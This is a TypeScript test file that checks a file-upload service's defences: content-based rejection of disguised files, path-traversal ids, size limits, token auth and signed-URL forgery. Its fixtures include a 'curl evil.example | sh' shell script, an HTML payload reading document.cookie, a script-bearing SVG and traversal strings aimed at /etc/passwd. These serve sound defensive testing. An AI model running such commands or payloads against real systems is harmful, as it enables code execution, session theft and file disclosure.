import { existsSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import { ErrorBodySchema } from '@nself/contracts'
import { type FileRecord, PresignUploadResponseSchema } from '@nself/contracts/files'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  createUpload,
  type FilesStub,
  patchUpload,
  photo,
  processed,
  raw,
  startFilesStub,
  tusHeaders,
  tusUpload,
} from '../../../test/files-kit'

/** The first bytes of a Windows executable, an ELF binary and a shell script. */
const EXECUTABLES = {
  'invoice.pdf': Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00'), Buffer.alloc(5000, 1)]),
  'cat.jpg': Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(5000, 2)]),
  'notes.txt': Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
}

const uploadsOnDisk = (stub: FilesStub) => readdirSync(join(stub.server.dataDir, 'uploads'))

describe('files are refused by their bytes, before they are stored', () => {
  let stub: FilesStub
  beforeAll(async () => {
    stub = await startFilesStub({ FILE_MAX_SIZE: '1000000' })
  })
  afterAll(() => stub.close())

  for (const [name, bytes] of Object.entries(EXECUTABLES)) {
    it(`a renamed executable (${name}) is refused with 415 and nothing is kept`, async () => {
      const before = uploadsOnDisk(stub)
      const error = await tusUpload(stub, bytes, { metadata: { name, type: 'image/jpeg' } }).then(
        () => null,
        (e: Error) => e,
      )
      expect(error?.message).toMatch(/response code: 415/)
      expect(error?.message).toMatch(/UNSUPPORTED_MEDIA_TYPE/)
      expect(uploadsOnDisk(stub)).toEqual(before)
      const files = (await (
        await fetch(`${stub.url}/api/files`, { headers: stub.auth('alice') })
      ).json()) as {
        files: FileRecord[]
      }
      expect(files.files.map((f) => f.name)).not.toContain(name)
    })
  }

  it('the presigned PUT refuses an executable too, and HTML and SVG, whatever their names say', async () => {
    for (const [name, bytes] of [
      ['report.pdf', EXECUTABLES['invoice.pdf']],
      ['page.txt', Buffer.from('<!DOCTYPE html><script>alert(document.cookie)</script>')],
      [
        'logo.png',
        Buffer.from(
          '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>',
        ),
      ],
    ] as const) {
      const presigned = PresignUploadResponseSchema.parse(
        await (
          await fetch(`${stub.url}/api/files/upload`, {
            method: 'POST',
            headers: { ...stub.auth('alice'), 'content-type': 'application/json' },
            body: JSON.stringify({ fileName: name, mimeType: 'application/pdf', size: bytes.length }),
          })
        ).json(),
      )
      const put = await fetch(presigned.uploadUrl, { method: 'PUT', body: bytes })
      expect(put.status, name).toBe(415)
      expect(existsSync(join(stub.server.dataDir, 'uploads', presigned.fileId))).toBe(false)
    }
  })

  it('an upload announced over FILE_MAX_SIZE is refused at creation (413), before any byte', async () => {
    const before = uploadsOnDisk(stub)
    const res = await createUpload(stub, 1_000_001, { name: 'big.zip' })
    expect(res.status).toBe(413)
    expect(JSON.parse(res.body)).toMatchObject({ code: 'PAYLOAD_TOO_LARGE' })
    expect(uploadsOnDisk(stub)).toEqual(before)
  })

  it('a PATCH carrying more bytes than the upload announced is refused', async () => {
    const created = await createUpload(stub, 10, { name: 'a.txt' })
    const res = await patchUpload(stub, created, 0, 'x'.repeat(11))
    expect(res.status).toBe(413)
  })
})

describe('ids cannot name anything outside the data directory', () => {
  let stub: FilesStub
  beforeAll(async () => {
    stub = await startFilesStub()
  })
  afterAll(() => stub.close())

  const attempts = [
    '..',
    '../records',
    '%2e%2e',
    '..%2F..%2Fetc%2Fpasswd',
    '%2E%2E%2F%2E%2E%2Frecords',
    '..%5C..%5Cwindows',
    'foo%00bar',
    '0123456789abcdef0123456789abcdef%2F..',
    'records',
    'ABCDEF0123456789ABCDEF0123456789',
  ]

  it.each(attempts)('%s is "not found" on every route', async (id) => {
    const auth = stub.auth('alice')
    for (const [method, path] of [
      ['HEAD', `/uploads/${id}`],
      ['PATCH', `/uploads/${id}`],
      ['DELETE', `/uploads/${id}`],
      ['GET', `/api/files/${id}`],
      ['DELETE', `/api/files/${id}`],
      ['GET', `/files/${id}`],
      ['GET', `/files/${id}/thumbnails/100`],
    ] as const) {
      const res = await raw(`${stub.url}${path}`, {
        method,
        headers: tusHeaders(stub, 'alice', {
          ...auth,
          'upload-offset': 0,
          'content-type': 'application/offset+octet-stream',
        }),
        body: method === 'PATCH' ? 'x' : undefined,
      })
      expect([400, 404], `${method} ${path}`).toContain(res.status)
      if (method !== 'HEAD' && res.body)
        expect(ErrorBodySchema.safeParse(JSON.parse(res.body)).success).toBe(true)
    }
  })
})

describe('downloads need the owner’s token or a valid signed URL', () => {
  let stub: FilesStub
  let record: FileRecord
  beforeAll(async () => {
    stub = await startFilesStub()
    record = await processed(
      stub,
      await tusUpload(stub, await photo(500, 400), { metadata: { name: 'me.jpg', operations: 'thumbnail' } }),
    )
  })
  afterAll(() => stub.close())

  const path = () => `/files/${record.id}`

  it('the owner’s token works; no token is 401; another user’s token is 404', async () => {
    expect((await fetch(`${stub.url}${path()}`, { headers: stub.auth('alice') })).status).toBe(200)
    const anonymous = await fetch(`${stub.url}${path()}`)
    expect(anonymous.status).toBe(401)
    expect(await anonymous.json()).toMatchObject({ code: 'UNAUTHENTICATED' })
    expect((await fetch(`${stub.url}${path()}`, { headers: stub.auth('bob') })).status).toBe(404)
    expect((await fetch(`${stub.url}${path()}/thumbnails/400`, { headers: stub.auth('bob') })).status).toBe(
      404,
    )
    expect((await fetch(`${stub.url}/api/files/${record.id}`, { headers: stub.auth('bob') })).status).toBe(
      404,
    )
    expect(
      (await fetch(`${stub.url}/api/files/${record.id}`, { method: 'DELETE', headers: stub.auth('bob') }))
        .status,
    ).toBe(404)
    const expiredToken = await fetch(`${stub.url}${path()}`, {
      headers: { authorization: `Bearer ${stub.token('alice', -10)}` },
    })
    expect(expiredToken.status).toBe(401)
    expect(await expiredToken.json()).toMatchObject({ code: 'TOKEN_EXPIRED' })
  })

  it('a signed URL works without a token until it expires; a forged or re-targeted one never does', async () => {
    const fresh = (await (
      await fetch(`${stub.url}/api/files/${record.id}`, { headers: stub.auth('alice') })
    ).json()) as FileRecord
    const url = new URL(fresh.url)
    const expires = Number(url.searchParams.get('expires'))
    expect(expires - Date.now() / 1000).toBeGreaterThan(3500)
    expect((await fetch(fresh.url)).status).toBe(200)
    const response = await fetch(fresh.thumbnailUrl as string)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('image/jpeg')
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    const forged = new URL(fresh.url)
    forged.searchParams.set('expires', String(expires + 3600))
    expect((await fetch(forged)).status).toBe(403)
    // The full file's signature does not open its thumbnail.
    const retargeted = new URL(fresh.url)
    retargeted.pathname += '/thumbnails/400'
    expect((await fetch(retargeted)).status).toBe(403)

    // An expired signature, however valid it was.
    const { UrlSigner } = await import('./signed-urls')
    const { SECRET } = await import('../../../test/files-kit')
    const past = Math.floor(Date.now() / 1000) - 5
    const expired = await fetch(`${stub.url}${path()}?${new UrlSigner(SECRET).sign('GET', path(), past)}`)
    expect(expired.status).toBe(403)
    expect(await expired.json()).toMatchObject({ code: 'FORBIDDEN', error: expect.stringMatching(/expired/) })
    const valid = await fetch(`${stub.url}${path()}?${new UrlSigner(SECRET).sign('GET', path(), past + 60)}`)
    expect(valid.status).toBe(200)
  })

  it('serves ranges (video seeking) and refuses impossible ones', async () => {
    const partial = await fetch(`${stub.url}${path()}`, {
      headers: { ...stub.auth('alice'), range: 'bytes=0-9' },
    })
    expect(partial.status).toBe(206)
    expect(partial.headers.get('content-range')).toMatch(/^bytes 0-9\/\d+$/)
    expect((await partial.arrayBuffer()).byteLength).toBe(10)
    const impossible = await fetch(`${stub.url}${path()}`, {
      headers: { ...stub.auth('alice'), range: 'bytes=99999999-' },
    })
    expect(impossible.status).toBe(416)
  })
})
